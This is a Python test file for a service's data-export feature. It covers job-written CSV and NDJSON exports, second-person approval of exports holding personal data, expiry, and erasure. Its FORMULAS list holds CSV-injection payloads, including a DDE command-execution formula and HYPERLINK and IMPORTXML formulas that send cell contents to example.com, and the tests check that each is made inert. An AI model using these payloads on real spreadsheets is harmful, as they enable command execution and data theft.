"""Exports: written by a job, inert in every spreadsheet, allowed by a second person where they hold personal data."""

import csv
import functools
import io
import json
from typing import Any
from uuid import UUID

import pytest
from hypothesis import given
from hypothesis import strategies as st
from starlette.testclient import TestClient

from services.profile.domain import erasure, exports
from services.profile.jobs.exports import forget_exports, write_export
from services.profile.rules.exports import inert, written
from shared.jobs import runner
from shared.jobs.schedule import Context
from tests.profile.conftest import Profile, code_of, line
from tests.profile.imports.conftest import StopAfter

# What people and payload lists put into names.
FORMULAS = (
    "=1+1",
    "=cmd|' /C calc'!A0",
    "+1+1",
    "-2+3",
    "@SUM(A1:A9)",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "\0=1+1",
    " =1+1",
    "\u00a0=1+1",
    "\u3000=1+1",
    "\ufeff=1+1",
    "＝1+1",
    "＋1",
    "－1",
    "＠SUM(1)",
    "%0A=1+1",
    "|calc",
    '=HYPERLINK("http://example.com?"&A1)',
    '=IMPORTXML(CONCAT("http://example.com",A1),"//a")',
)


def work(profile: Profile, **options: int) -> bool:
    under = profile.under_test
    context = Context(under.settings, under.sessions, under.engine)
    return runner.run_one({"export": functools.partial(write_export, **options)}, context)


def ask(profile: Profile, client: Any = None, **body: Any) -> dict[str, Any]:
    reply = (client or profile.client).post("/v1/exports", json={"kind": "customers"} | body)
    assert reply.status_code == 202, reply.text
    assert reply.headers["Location"] == f"/profile/v1/jobs/{reply.json()['id']}"
    return dict(reply.json())


def fetched(profile: Profile, export: dict[str, Any], **options: int) -> str:
    assert work(profile, **options)
    reply = profile.client.get(f"/v1/exports/{export['id']}/file")
    assert reply.status_code == 200, reply.text
    assert int(reply.headers["Content-Length"]) == len(reply.content)
    return str(reply.content.decode())


def other(profile: Profile, *scopes: str, name: str = "second") -> Any:
    """A client with a credential of its own."""
    reply = profile.client.post("/v1/api-keys", json={"name": name, "scopes": list(scopes)})
    assert reply.status_code == 201, reply.text
    bearer = {"Authorization": f"Bearer {reply.json()['key']}"}
    return TestClient(profile.under_test.app, "http://testserver/profile", headers=bearer)


def test_customers_leave_as_a_file_of_what_is_not_personal(profile: Profile) -> None:
    for number in range(5):
        profile.customer(
            f"c{number}", name=f"Name {number}", country="CN" if number % 2 else "GB", tags=["vip"]
        )
    export = ask(profile, filters={"country": ["CN"]})
    assert (export["state"], export["personal"]) == ("being_written", False)
    rows = list(csv.DictReader(io.StringIO(fetched(profile, export, rows=1))))
    assert {row["external_ids"] for row in rows} == {"shop:c1", "shop:c3"}
    assert {row["country"] for row in rows} == {"CN"} and {row["tags"] for row in rows} == {"vip"}
    assert "name" not in rows[0] and "email" not in rows[0]
    shown = profile.client.get(f"/v1/exports/{export['id']}").json()
    assert (shown["state"], shown["row_count"]) == ("ready", 2)
    assert profile.client.get(f"/v1/jobs/{export['id']}").json()["progress"]["processed"] == 2


def test_every_kind_can_be_exported_in_both_formats(profile: Profile) -> None:
    profile.customer("c1")
    assert profile.buy("1", line(), line("X", 2, "3.10")).status_code == 201
    profile.client.put("/v1/products/85123A", json={"name_en": "Lantern"})
    counts = {"customers": 2, "purchases": 1, "purchase_lines": 2, "returns": 0, "consents": 0, "products": 2}
    for kind, count in counts.items():
        lines = fetched(profile, ask(profile, kind=kind, format="ndjson")).splitlines()
        assert len(lines) == count, kind
        whole = fetched(profile, ask(profile, kind=kind, byte_order_mark=True), rows=1)
        assert whole.startswith("\ufeff") and len(whole.splitlines()) == count + 1
    sold = json.loads(fetched(profile, ask(profile, kind="purchase_lines", format="ndjson")).splitlines()[0])
    assert (sold["sku"], sold["quantity"], sold["unit_price"], sold["external_id"]) == (
        "85123A",
        6,
        "2.55",
        "1",
    )


def test_personal_fields_wait_for_a_second_person(committing: Profile) -> None:
    profile = committing
    # All of them before the first is used: for new keys is asked once in a while only.
    blind = other(profile, "exports:approve", name="blind")
    reader = other(profile, "pii:read", name="reader")
    second = other(profile, "exports:approve", "pii:read")
    third = other(profile, "exports:approve", "pii:read", name="third")
    without = other(profile, "exports:read", name="without pii")
    profile.customer("c1", name="王芳", email="wang.fang@example.com")
    export = ask(profile, fields=["id", "name", "email"], reason="a mailing house")
    assert (export["state"], export["personal"]) == ("awaiting_approval", True)
    assert not work(profile)
    assert profile.client.get(f"/v1/exports/{export['id']}/file").status_code == 409
    path = f"/v1/exports/{export['id']}/approve"
    own = profile.client.post(path)
    assert (own.status_code, code_of(own)) == (403, "own_request")
    assert code_of(blind.post(path)) == "insufficient_scope"
    assert reader.post(path).status_code == 403
    reply = second.post(path)
    assert (reply.status_code, reply.json()["approved_by"]) == (200, "second")
    assert second.post(path).status_code == 200
    late = third.post(path)
    assert (late.status_code, code_of(late)) == (409, "already_approved")
    assert "王芳" in fetched(profile, export)
    assert without.get(f"/v1/exports/{export['id']}/file").status_code == 403


def test_who_may_not_see_personal_data_cannot_ask_for_it_and_what_is_cancelled_is_never_written(
    committing: Profile,
) -> None:
    profile = committing
    client = other(profile, "exports:write", name="asker")
    second = other(profile, "exports:approve", "pii:read")
    reply = client.post("/v1/exports", json={"kind": "customers", "fields": ["email"]})
    assert (reply.status_code, code_of(reply)) == (403, "insufficient_scope")
    assert ask(profile, client, fields=["id"])["personal"] is False
    assert work(profile)
    export = ask(profile, fields=["name"])
    assert profile.client.post(f"/v1/jobs/{export['id']}/cancel").status_code == 200
    late = second.post(f"/v1/exports/{export['id']}/approve")
    assert (late.status_code, code_of(late)) == (409, "export_cancelled")
    assert not work(profile)


def test_nothing_of_a_file_can_be_read_in_the_database_or_after_its_day(profile: Profile) -> None:
    profile.customer("c1", country="CN", tags=["canary-tag"])
    export = ask(profile)
    assert "canary-tag" in fetched(profile, export)
    assert profile.ask("select count(*) from export_block where position('canary'::bytea in sealed) > 0") == [
        (0,)
    ]
    with profile.under_test.sessions.begin() as session:
        session.connection().exec_driver_sql("update export set expires_at = now() - interval '1 second'")
    late = profile.client.get(f"/v1/exports/{export['id']}/file")
    assert (late.status_code, code_of(late)) == (410, "export_expired")
    under = profile.under_test
    forget_exports(Context(under.settings, under.sessions, under.engine))
    assert profile.ask("select count(*) from export_block") == [(0,)]
    assert profile.client.get(f"/v1/exports/{export['id']}").json()["state"] == "forgotten"


def test_a_file_of_personal_data_is_begun_anew_where_somebody_was_erased_meanwhile(profile: Profile) -> None:
    for number in range(3):
        profile.customer(f"c{number}", name=f"Name {number}")
    ask(profile, fields=["id", "name"])
    under = profile.under_test
    with under.sessions.begin() as session:  # approved
        session.connection().exec_driver_sql(
            "update export set approved_at = now(), approved_by = 'x', approved_by_credential = 'y'"
        )
        session.connection().exec_driver_sql("update shared.job set due_at = now()")
    context = Context(under.settings, under.sessions, under.engine)
    runner.run_one({"export": functools.partial(write_export, rows=1)}, context, StopAfter(1))
    gone = profile.customer("c0")["id"]
    with under.sessions.begin() as session:
        erasure.erase(session, UUID(gone), "test", exports.clock(session))
    assert profile.ask("select count(*) from export_block") == [(1,)]
    # The clock of this one transaction stands still: the erasure would be found for ever.
    runner.run_one({"export": functools.partial(write_export, rows=1)}, context, StopAfter(3))
    assert profile.ask("select row_count from export") == [(0,)]
    assert profile.ask("select count(*) from export_block") == [(0,)]


@pytest.mark.parametrize(
    ("body", "code"),
    [
        ({"kind": "horses"}, "literal_error"),
        ({"fields": ["colour"]}, "unknown_field"),
        ({"fields": []}, "too_short"),
        ({"filters": {"store": ["x"]}}, "unknown_filter"),
        ({"filters": {"colour": ["x"]}}, "extra_forbidden"),
    ],
)
def test_what_cannot_be_exported_is_refused_with_its_reason(profile: Profile, body: Any, code: str) -> None:
    reply = profile.client.post("/v1/exports", json={"kind": "customers"} | body)
    assert reply.status_code == 422
    assert code in [error["code"] for error in reply.json()["errors"]]


@pytest.mark.parametrize("formula", FORMULAS)
def test_a_formula_leaves_as_a_text(formula: str) -> None:
    assert inert(formula).startswith("'")
    cells = next(csv.reader(io.StringIO(written([{"a": formula, "b": 1}], ["a", "b"], "csv"))))
    assert cells[0] == "'" + formula


@given(st.text())
def test_whatever_a_text_is_a_spreadsheet_shows_it(text: str) -> None:
    told = written([{"a": text}], ["a"], "csv")
    (cell,) = next(csv.reader(io.StringIO(told, newline="")))
    assert cell in (text, "'" + text)
    assert cell.lstrip(" \u00a0\u3000\ufeff")[:1] not in set("=+-@\t\r\n\0＝＋－＠")
    assert told.startswith('"')


def test_harmless_texts_and_numbers_stay_as_they_are() -> None:
    row = {"a": "O'Neill", "b": "a=b", "c": -5, "d": None, "e": True, "f": ["x", "=y"], "g": "1-2"}
    assert written([row], list(row), "csv") == '"O\'Neill","a=b",-5,"","true","x, =y","1-2"\r\n'
